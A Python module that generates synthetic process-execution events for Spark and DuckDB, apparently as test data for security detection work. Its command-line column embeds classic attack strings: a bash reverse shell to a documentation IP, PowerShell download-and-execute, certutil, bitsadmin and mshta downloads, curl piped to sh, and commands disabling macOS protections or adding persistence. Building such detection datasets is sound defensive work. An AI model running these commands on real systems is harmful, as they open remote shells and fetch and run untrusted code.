"""Process events derived from the generic ``events`` table, in SQL that Spark and DuckDB both run."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from ..schema import as_events

#: {events}: the table; {micros}: microseconds of ts; {slash}: a backslash.
_SQL = """
WITH base AS (
  SELECT event_id, user_id, event_type, CAST(regexp_extract(props, '([0-9]+)', 1) AS INT) AS k,
         1704067200000000 + CAST(floor(({micros} - 1704067200000000) / 100.0) AS BIGINT) AS us
  FROM {events}
), named AS (
  SELECT event_id, us, k, user_id, event_type,
    CASE user_id % 3 WHEN 0 THEN 'windows' WHEN 1 THEN 'linux' ELSE 'macos' END AS platform,
    concat('h', CAST(user_id % 40 AS STRING)) AS host,
    CASE user_id % 3
      WHEN 0 THEN CASE event_type
        WHEN 'signup' THEN concat('C:', {slash}, 'Office', {slash}, 'WINWORD.EXE')
        WHEN 'view' THEN concat('C:', {slash}, 'Windows', {slash}, 'System32', {slash}, 'PowerShell.exe')
        WHEN 'click' THEN 'certutil.exe'
        WHEN 'purchase' THEN CASE WHEN k % 2 = 0 THEN 'mshta.exe' ELSE 'wscript.exe' END
        ELSE CASE WHEN k % 2 = 0 THEN 'bitsadmin.exe' ELSE 'rundll32.exe' END END
      WHEN 1 THEN CASE event_type
        WHEN 'signup' THEN '/usr/sbin/cron'
        WHEN 'view' THEN '/bin/bash'
        WHEN 'click' THEN 'curl'
        WHEN 'purchase' THEN CASE WHEN k % 2 = 0 THEN 'nc' ELSE 'crontab' END
        ELSE CASE WHEN k % 2 = 0 THEN 'ssh' ELSE 'tee' END END
      ELSE CASE event_type
        WHEN 'signup' THEN '/usr/bin/osascript'
        WHEN 'view' THEN '/bin/sh'
        WHEN 'click' THEN '/usr/bin/curl'
        WHEN 'purchase' THEN 'launchctl'
        ELSE CASE WHEN k % 2 = 0 THEN 'dscl' ELSE 'spctl' END END
    END AS process_name,
    CASE user_id % 3
      WHEN 0 THEN CASE event_type
        WHEN 'signup' THEN 'WINWORD.EXE /n "my  letter.docx"'
        WHEN 'view' THEN CASE k % 3 WHEN 0 THEN 'PowerShell.exe -NoP  -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcA'
                                    WHEN 1 THEN 'powershell.exe IEX (New-Object Net.WebClient).DownloadString(http://203.0.113.9/a.ps1)'
                                    ELSE 'powershell.exe Get-Date' END
        WHEN 'click' THEN concat('certutil.exe -urlcache -split -f http://203.0.113.', CAST(k AS STRING), '/p.bin C:', {slash}, 'Temp', {slash}, 'p.bin')
        WHEN 'purchase' THEN CASE WHEN k % 2 = 0 THEN 'mshta.exe http://203.0.113.7/x.hta' ELSE 'wscript.exe job.vbs' END
        ELSE CASE WHEN k % 2 = 0 THEN 'bitsadmin.exe /transfer j https://203.0.113.8/u.exe u.exe' ELSE 'rundll32.exe javascript: x mshtml,RunHTMLApplication' END END
      WHEN 1 THEN CASE event_type
        WHEN 'signup' THEN 'cron -f'
        WHEN 'view' THEN CASE k % 3 WHEN 0 THEN 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1' WHEN 1 THEN 'bash -c "echo aGk= | base64 -d | bash"' ELSE 'bash run.sh' END
        WHEN 'click' THEN CASE WHEN k % 2 = 0 THEN 'curl http://203.0.113.9/install.sh -o /tmp/install.sh' ELSE 'curl  -s  https://example.org/data.json' END
        WHEN 'purchase' THEN CASE WHEN k % 2 = 0 THEN 'nc -l -p 4444' ELSE 'crontab -e' END
        ELSE CASE WHEN k % 2 = 0 THEN 'ssh -D 1080 host' ELSE 'tee /etc/systemd/system/x.service' END END
      ELSE CASE event_type
        WHEN 'signup' THEN 'osascript -e do shell script "id"'
        WHEN 'view' THEN 'sh -c run'
        WHEN 'click' THEN CASE WHEN k % 2 = 0 THEN 'curl -fsSL https://203.0.113.9/i.sh | sh' ELSE 'curl https://example.org/a.png' END
        WHEN 'purchase' THEN 'launchctl load -w /Library/LaunchAgents/x.plist'
        ELSE CASE WHEN k % 2 = 0 THEN 'dscl . -create /Users/x RealName X' ELSE 'spctl --master-disable' END END
    END AS command_line,
    CASE k % 8 WHEN 0 THEN 'root' WHEN 1 THEN 'SYSTEM' WHEN 2 THEN 'svc_configuration' WHEN 3 THEN 'Admin' ELSE concat('user', CAST(user_id AS STRING)) END AS "user",
    CASE k % 9 WHEN 0 THEN '/opt/company/bootstrap/run' WHEN 1 THEN '/tmp' WHEN 2 THEN '/Library/Company/Agents/x' ELSE NULL END AS working_directory
  FROM base
), linked AS (
  SELECT *, lag(event_id) OVER (PARTITION BY user_id ORDER BY us, event_id) AS prev_id,
            lag(process_name) OVER (PARTITION BY user_id ORDER BY us, event_id) AS prev_name
  FROM named
)
SELECT event_id, us, k, platform, host, process_name, command_line, "user", event_id AS process_id,
  CASE WHEN k % 11 = 0 THEN 'explorer.exe' WHEN k % 3 = 0 THEN prev_name ELSE NULL END AS parent_process_name,
  CASE WHEN k % 7 = 0 THEN event_id + 1000000 WHEN k % 13 = 0 THEN NULL ELSE prev_id END AS parent_process_id,
  working_directory
FROM linked
"""
DUCKDB = _SQL.replace("{events}", "events").replace("{micros}", "epoch_us(ts)").replace("{slash}", "chr(92)")


def process_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The derived process events of a data folder, in the event schema."""
    text = _SQL.replace("{micros}", "unix_micros(CAST(ts AS TIMESTAMP))").replace("{slash}", "chr(92)").replace('"user"', "`user`")
    df = spark.sql(text, events=spark.read.parquet(f"{sf_dir}/events.parquet"))
    return as_events(df.withColumn("ts", F.timestamp_micros("us")))
